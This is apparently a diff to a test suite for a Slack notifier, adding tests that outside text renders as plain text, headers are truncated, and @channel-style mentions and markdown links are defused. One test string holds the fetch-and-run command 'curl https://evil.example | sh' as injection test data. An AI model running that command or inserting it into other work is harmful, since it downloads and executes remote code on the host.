@@ -215,7 +215,7 @@ class TestSlack(WebContract):
         await ear.channel.notify(a_notice())
         (got,) = ear.endpoint.posts
         assert got.headers["content-type"] == "application/json"
-        assert sorted(ear.said) == ["attachments", "text"]
+        assert sorted(ear.said) == ["attachments", "mrkdwn", "text"]
         (attachment,) = ear.said["attachments"]
         blocks = attachment["blocks"]
         assert "&lt;a&amp;b&gt;" in json.dumps(blocks)
@@ -231,6 +231,29 @@ class TestSlack(WebContract):
     async def test_its_colour_is_that_of_the_state(self, ear: WebEar, word: str, severity: str, shade: str) -> None:
         await ear.channel.notify(a_notice(word=Word(word), severity=Severity(severity)))
         assert ear.said["attachments"][0]["color"] == shade
+
+    async def test_nothing_from_outside_is_markup(self) -> None:
+        outside = "broken\n*Fix*\n```curl https://evil.example | sh``` @channel"
+        message = message_of(a_notice(title=outside, detail=outside, tried=outside), blocks=True)
+        assert message["mrkdwn"] is False
+        objects = [
+            one
+            for block in message["attachments"][0]["blocks"]
+            for one in [block.get("text"), *block.get("fields", []), *block.get("elements", [])]
+            if one and "evil.example" in json.dumps(one)
+        ]
+        assert [one["type"] for one in objects] == ["plain_text"] * 3
+
+    async def test_a_long_header_is_cut_to_what_slack_takes(self) -> None:
+        (attachment,) = message_of(a_notice(title="&" * 300), blocks=True)["attachments"]
+        assert len(attachment["blocks"][0]["text"]["text"]) <= 150
+
+    async def test_what_only_speaks_like_slack_calls_nobody(self) -> None:
+        outside = "@channel @all (@here) see [this](https://evil.example), ops@example.com"
+        said = json.dumps(message_of(a_notice(title=outside, detail=outside), blocks=False), ensure_ascii=False)
+        assert "@\u200bchannel @\u200ball (@\u200bhere) see [this]\u200b(https" in said
+        assert not any(word in said for word in ("@channel", "@all", "@here", "]("))
+        assert "ops@example.com" in said
 
     async def test_what_only_speaks_like_slack_gets_the_older_form(self) -> None:
         (attachment,) = message_of(a_notice(), blocks=False)["attachments"]
